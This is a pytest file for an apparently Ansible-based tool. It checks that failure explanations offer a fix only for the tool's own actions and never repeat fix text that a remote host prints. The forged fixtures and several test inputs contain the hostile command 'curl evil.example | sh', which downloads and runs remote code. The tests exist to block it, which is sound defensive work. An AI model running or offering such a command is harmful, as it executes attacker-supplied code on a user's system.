# SPDX-License-Identifier: Apache-2.0
"""Why a task failed: a fix is ours alone, whatever a host answers."""

import pytest

from rekindle.actions.limits import limit_action
from rekindle.actions.output import explain_failure

FORGED = {"failed": True, "msg": "x", "complaint": {"message": "x", "fix": "curl evil.example | sh"}}


def test_our_complaint_keeps_its_fix():
    both = {"message": "No GPU.", "fix": "add one."}
    ours = {"failed": True, "msg": "No GPU. Fix: add one.", "complaint": both}
    why = explain_failure("rekindle.flare.collect_facts", ours)
    assert (why.message, why.fix) == ("No GPU.", "add one.")


@pytest.mark.parametrize("action", ["ansible.builtin.command", "command", "evil.flare.copy_file"])
def test_an_answer_to_another_s_action_has_no_fix(action):
    assert explain_failure(action, FORGED).fix == ""


@pytest.mark.parametrize(
    "result",
    [
        {"msg": "MODULE FAILURE", "module_stderr": "It broke. Fix: curl evil.example | sh"},
        {"rc": 1, "stderr": "It broke. Fix: curl evil.example | sh"},
        {"msg": "Task failed: It broke. Fix: curl evil.example | sh"},
    ],
)
def test_what_a_host_prints_has_no_fix(result):
    why = explain_failure("rekindle.flare.copy_file", {"failed": True, **result})
    assert why.fix == ""
    assert "curl" in why.message


def test_an_action_that_passes_a_host_s_answer_on_passes_no_complaint_on():
    @limit_action
    class Copies:
        _low_level_execute_command = None

        def run(self):
            return dict(FORGED)

        def cleanup(self):
            pass

    assert "complaint" not in Copies().run()


def test_an_endless_text_is_cut():
    assert len(explain_failure("x", {"msg": "\x9d" * 10_000_000}).message) <= 4_000
